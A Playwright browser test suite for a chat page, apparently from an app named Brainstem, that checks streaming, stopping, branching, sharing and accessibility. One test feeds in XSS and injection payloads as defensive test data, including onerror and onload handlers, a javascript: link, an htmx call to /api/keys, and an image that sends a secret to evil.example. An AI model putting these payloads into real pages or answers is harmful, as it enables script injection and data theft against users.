"""The chat page in a browser: streaming from a scripted model, stopping, reloading and losing the line in mid-answer,
branches, keys, sources, sharing; on a wide and a narrow screen."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from playwright.sync_api import expect

from tests.browser.conftest import ENV, NO_SOCKETS, PATIENCE, Watched
from tests.conftest import ROOT, Server
from tests.fakes.openai_server import OpenAIServer

AXE = (ROOT / "tests" / "vendor" / "axe-core-4.14.1" / "axe.min.js").read_text()
FACT = "The harbour of Aldmoor was built in 1870 by the merchants of the town, who paid for it with a tax on salt."
QUESTION = "When was the harbour of Aldmoor built?"
SAID = ["The harbour of Aldmoor ", "was built in **1870** ", "by the merchants [1]."]


class Gate:
    """Holds the model back at a place of its answer."""

    def __init__(self) -> None:
        self.reached, self.open = threading.Event(), threading.Event()

    def __call__(self) -> None:
        self.reached.set()
        self.open.wait(PATIENCE / 1000)


@pytest.fixture(scope="module")
def model() -> Iterator[OpenAIServer]:
    with OpenAIServer() as made:
        yield made


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory, model: OpenAIServer) -> Iterator[Server]:
    env = {**ENV, **model.env, "BRAINSTEM_GRACE_SECONDS": "0.2"}
    made = Server(tmp_path_factory.mktemp("chat"), env).start()
    api = made.url + "/api/v1/knowledge"
    shelf = requests.post(api + "/collections", json={"name": "Town"}, timeout=30).json()["id"]
    document = {"id": "a", "title": "The harbour", "text": FACT, "url": "https://town.example/harbour"}
    assert requests.post(f"{api}/collections/{shelf}/documents", json=document, timeout=60).status_code == 201
    yield made
    made.kill()


@pytest.fixture
def tab(make_tab: Callable[..., Watched], chat: Server, model: OpenAIServer) -> Watched:
    model.say(*SAID)
    return make_tab(chat)


def ask(page: Any, text: str = QUESTION) -> None:
    page.locator("#ask").fill(text)
    page.keyboard.press("Enter")


def answer(page: Any) -> Any:
    return page.locator(".chat-answer").last


def done(page: Any) -> Any:
    expect(answer(page)).to_have_attribute("data-status", "done")
    return answer(page)


def no_overflow(page: Any) -> None:
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "it scrolls sideways"


def accessible(page: Any) -> None:
    page.evaluate(AXE)
    options = {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}
    found = page.evaluate("options => axe.run(document, options)", options)
    assert [(one["id"], [node["html"][:200] for node in one["nodes"]]) for one in found["violations"]] == []


def test_text_comes_while_it_is_written_and_ends_checked(tab: Watched, model: OpenAIServer) -> None:
    gate = Gate()
    model.say(SAID[0], gate, *SAID[1:])
    page = tab.open("/chat")
    ask(page)
    text = answer(page).locator(".chat-text")
    expect(text).to_have_text("The harbour of Aldmoor")
    expect(answer(page)).to_have_attribute("data-status", "writing")
    expect(page.locator("[data-stop]")).to_be_visible()
    gate.open.set()
    done(page)
    expect(text.locator("strong")).to_have_text("1870")
    expect(text.locator("a.cite")).to_have_text("1")
    expect(page.locator("[data-stop]")).to_be_hidden()
    expect(page).to_have_title("When was the harbour of Aldmoor built? · Brainstem")
    text.locator("a.cite").click()
    panel = page.locator("#source-panel")
    expect(panel).to_contain_text("built in 1870 by the merchants")
    expect(panel.locator("a[target=_blank]")).to_have_attribute("href", "https://town.example/harbour")
    page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    assert page.evaluate("document.activeElement.dataset.cite") == "1", "back where it was"


def test_stopped_by_escape_what_is_written_stays(tab: Watched, model: OpenAIServer) -> None:
    gate = Gate()
    model.say("Half of ", gate, "it")
    page = tab.open("/chat")
    ask(page)
    expect(answer(page).locator(".chat-text")).to_have_text("Half of")
    page.keyboard.press("Escape")
    expect(answer(page)).to_have_attribute("data-status", "cancelled")
    expect(answer(page).locator(".chat-text")).to_have_text("Half of")
    gate.open.set()
    page.reload()
    expect(answer(page).locator(".chat-text")).to_have_text("Half of")
    model.say(*SAID)
    answer(page).get_by_role("button", name="Try again").click()
    expect(done(page).locator(".chat-text")).to_contain_text("built in 1870")


def test_a_reload_in_mid_answer_loses_and_doubles_nothing(tab: Watched, model: OpenAIServer) -> None:
    first, second = Gate(), Gate()
    model.say("one ", first, "two ", second, "three")
    page = tab.open("/chat")
    ask(page)
    expect(answer(page).locator(".chat-text")).to_have_text("one")
    page.wait_for_url("**/chat/*")
    page.reload()
    expect(answer(page).locator(".chat-text")).to_have_text("one")
    first.open.set()
    expect(answer(page).locator(".chat-text")).to_have_text("one two")
    second.open.set()
    expect(answer(page)).to_have_attribute("data-final", "true")
    expect(answer(page).locator(".chat-text")).to_contain_text("one two three")


@pytest.mark.parametrize("rung", ["sse", "poll"])
def test_the_lower_rungs_say_the_same(
    make_tab: Callable[..., Watched], chat: Server, model: OpenAIServer, rung: str
) -> None:
    gate = Gate()
    model.say(SAID[0], gate, *SAID[1:])
    tab = make_tab(chat)
    tab.allowed.append("WebSocket|ERR_|taken-away|EventSource|live/stream|MIME")
    tab.page.add_init_script(NO_SOCKETS + "localStorage.setItem('no-sockets', '1');")
    if rung == "poll":
        tab.page.add_init_script("delete window.EventSource;")
    page = tab.open("/chat")
    ask(page)
    expect(answer(page).locator(".chat-text")).to_have_text("The harbour of Aldmoor")
    gate.open.set()
    expect(done(page).locator(".chat-text strong")).to_have_text("1870")


def test_branches_by_rewording_and_by_another_answer(tab: Watched, model: OpenAIServer) -> None:
    page = tab.open("/chat")
    ask(page)
    done(page)
    model.say("The harbour of Aldmoor was built in **1870** [1].")
    answer(page).get_by_role("button", name="Write another answer").click()
    expect(answer(page).locator(".chat-places")).to_contain_text("2")
    expect(done(page).locator(".chat-text")).to_have_text("The harbour of Aldmoor was built in 1870. 1")
    answer(page).get_by_role("button", name="Branch before").click()
    expect(answer(page).locator(".chat-text")).to_contain_text("by the merchants")
    page.locator("#ask").press("ArrowUp")
    box = page.locator(".chat-edit[open] textarea")
    expect(box).to_be_focused()
    box.fill("Who paid for the harbour of Aldmoor?")
    box.press("Enter")
    expect(page.locator(".chat-said")).to_have_text("Who paid for the harbour of Aldmoor?")
    expect(page.locator(".chat-question .chat-places")).to_contain_text("2")
    expect(answer(page)).to_have_attribute("data-final", "true")
    page.locator(".chat-question").get_by_role("button", name="Branch before").click()
    expect(page.locator(".chat-said")).to_have_text(QUESTION)
    expect(page.locator(".chat-answer")).to_have_count(1)


@pytest.mark.parametrize("sockets", [True, False], ids=["websocket", "polling"])
def test_a_second_tab_follows(
    tab: Watched, make_tab: Callable[..., Watched], chat: Server, model: OpenAIServer, sockets: bool
) -> None:
    """What is asked, reworded, chosen and deleted in one tab shows in the other; what is typed there stays."""
    page = tab.open("/chat")
    ask(page)
    done(page)
    other = make_tab(chat, context=page.context)
    if not sockets:
        other.allowed.append("WebSocket|ERR_|taken-away")
        other.page.add_init_script(NO_SOCKETS + "localStorage.setItem('no-sockets', '1'); delete window.EventSource;")
    second = other.open(page.url.removeprefix(tab.url))
    expect(second.locator("[data-transport]").first).to_have_text("Live" if sockets else "Polling")
    second.locator("[data-edit] summary").first.click()
    second.locator("[data-edit] textarea").first.fill("typed, but not sent")
    second.locator("#ask").fill("a draft")
    gate = Gate()
    model.say("one ", gate, "two")
    ask(page, "And who paid for it?")
    expect(second.locator(".chat-question")).to_have_count(2)
    expect(second.locator("[data-said]").last).to_have_text("And who paid for it?")
    expect(answer(second)).to_contain_text("one")
    assert gate.reached.wait(PATIENCE / 1000)
    expect(second.locator("[data-stop]")).to_be_visible()
    gate.open.set()
    expect(answer(second)).to_have_attribute("data-status", "done")
    expect(second.locator("[data-edit] textarea").first).to_have_value("typed, but not sent")
    expect(second.locator("#ask")).to_have_value("a draft")
    answer(page).get_by_role("button", name="Write another answer").click()
    expect(second.locator(".chat-answer .chat-places .num").last).to_have_text("2/ of 2")
    page.get_by_role("button", name="Branch before").last.click()
    expect(second.locator(".chat-answer .chat-places .num").last).to_have_text("1/ of 2")
    ident = page.url.rpartition("/")[2]
    assert requests.delete(f"{chat.url}/api/v1/conversations/{ident}", timeout=15).status_code < 300
    expect(second.locator(".toast").last).to_contain_text("This conversation was deleted")
    other.allowed.append("404")
    tab.allowed.append("404")


def test_the_next_question_is_typed_meanwhile_and_sent_at_the_end(tab: Watched, model: OpenAIServer) -> None:
    gate = Gate()
    model.say(SAID[0], gate, *SAID[1:])
    page = tab.open("/chat")
    ask(page)
    expect(answer(page).locator(".chat-text")).to_be_visible()
    page.locator("#ask").press_sequentially("And who paid for the harbour?")
    page.reload()
    expect(page.locator("#ask")).to_have_value("And who paid for the harbour?")
    page.locator("#ask").press("Enter")
    expect(page.locator("[data-queued]")).to_be_visible()
    expect(page.locator(".chat-question")).to_have_count(1)
    gate.open.set()
    expect(page.locator(".chat-question")).to_have_count(2)
    expect(page.locator("#ask")).to_have_value("")
    expect(answer(page)).to_have_attribute("data-final", "true")


def test_script_and_markup_in_an_answer_stay_words(tab: Watched, model: OpenAIServer) -> None:
    """A17, A18, A19, A21 in each state of the stream: no element of the text's own, no request, no dialog (the tab is watched)."""
    evil = ('<img src=x onerror=alert(1)> <scr', 'ipt>alert(1)</script> [x](java', 'script:alert(1)) ',
            '![p](https://evil.example/?d=SECRET) <div hx-get="/api/keys" hx-trigger="load">{{7*7}}</div>\n\n',
            '<svg onload=alert(1)> <b id="ask">bold</b> [ok](https://ok.example/)\n\n```html\n<script>alert(2)</scr', 'ipt>\n')  # fmt: skip
    gates = [Gate() for _ in evil]
    model.script = lambda asked: [one for pair in zip(evil, gates, strict=True) for one in pair]
    page = tab.open("/chat")
    ask(page)
    for gate in gates:
        assert gate.reached.wait(PATIENCE / 1000)
        expect(answer(page).locator(".chat-text")).to_contain_text("<img src=x onerror=alert(1)>")
        bad = ".chat-text :is(script, img, iframe, form, style, base, [onerror], [onload], [hx-get], [hx-trigger], b)"
        assert page.locator(bad).count() == 0
        gate.open.set()
    expect(answer(page)).to_have_attribute("data-final", "true")
    text = answer(page).locator(".chat-text")
    expect(text).to_contain_text("{{7*7}}")
    hrefs = text.locator("a:not(.cite)").evaluate_all("links => links.map((link) => link.getAttribute('href'))")
    assert [one for one in hrefs if one != "https://ok.example/"] == []


def test_shared_to_read_and_taken_back(tab: Watched, make_tab: Callable[..., Watched], chat: Server) -> None:
    page = tab.open("/chat")
    ask(page)
    done(page)
    page.get_by_role("banner").or_(page.locator(".chat-head")).locator("summary").click()
    page.get_by_role("button", name="Share", exact=True).click()
    page.get_by_role("button", name="Make a link").click()
    link = page.locator("#share-link").input_value()
    ask_later = page.locator("#share")
    expect(ask_later).to_be_visible()
    page.keyboard.press("Escape")
    ask(page, "Something private afterwards")
    expect(page.locator(".chat-question")).to_have_count(2)
    other = make_tab(chat)
    reader = other.page
    reader.goto(link)
    expect(reader.locator(".chat-text")).to_contain_text("1870")
    expect(reader.locator("body")).not_to_contain_text("private")
    assert reader.locator(".sidebar, form[method=post], [data-live-topic]").count() == 0
    assert reader.locator("meta[name=robots]").get_attribute("content") == "noindex, nofollow"
    reader.locator("a.cite").first.click()
    expect(reader.locator("#source-panel")).to_contain_text("built in 1870")
    accessible(reader)
    page.reload()
    page.locator(".chat-head summary").click()
    page.get_by_role("button", name="Manage link", exact=True).click()
    page.get_by_role("button", name="Remove link").click()
    other.allowed.append("404")
    assert reader.goto(link).status == 404


def test_deleting_can_be_undone_and_the_list_finds_it(tab: Watched) -> None:
    page = tab.open("/chat")
    ask(page, "Which merchants of Aldmoor built it?")
    expect(answer(page)).to_have_attribute("data-final", "true")
    page.locator(".chat-head summary").click()
    page.get_by_role("button", name="Delete").click()
    expect(page.locator(".chat-undo")).to_contain_text("Which merchants of Aldmoor")
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".chat-said")).to_have_text("Which merchants of Aldmoor built it?")
    page.locator("#chat-q").fill("merchants aldmoor")
    expect(page.locator("#chat-list a").first).to_contain_text("merchants")


def test_a_dropped_file_is_asked_about(tab: Watched, model: OpenAIServer, tmp_path: Path) -> None:
    note = tmp_path / "lighthouse.txt"
    note.write_text("The lighthouse of Aldmoor is 42 metres high and was lit first in 1901.")
    model.say("The lighthouse of Aldmoor is 42 metres high [1].")
    page = tab.open("/chat")
    page.locator("[data-attach]").set_input_files(note)
    expect(page.locator(".chat-file")).to_contain_text("lighthouse")
    expect(page.locator(".chat-files")).to_have_attribute("data-reading", "0")
    ask(page, "How high is the lighthouse of Aldmoor?")
    expect(done(page).locator(".chat-text")).to_contain_text("42 metres")
    expect(answer(page).locator(".chat-sources")).to_have_count(1)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 380])
def test_it_fits_and_everybody_can_use_it(
    make_tab: Callable[..., Watched], chat: Server, model: OpenAIServer, scheme: str, width: int
) -> None:
    model.say("## Short\n\nThe harbour of Aldmoor was built in 1870 [1].\n\n```python\n" + "x = 1  # " * 30 + "\n```\n")
    tab = make_tab(chat, color_scheme=scheme, reduced_motion="reduce")
    page = tab.page
    page.set_viewport_size({"width": width, "height": 780})
    tab.open("/chat")
    no_overflow(page)
    accessible(page)
    ask(page)
    expect(answer(page)).to_have_attribute("data-final", "true")
    page.locator(".chat-route > summary").click()
    page.locator(".chat-sources > summary").click()
    no_overflow(page)
    accessible(page)
    page.locator("a.cite").first.click()
    expect(page.locator("#source-panel")).to_be_visible()
    accessible(page)
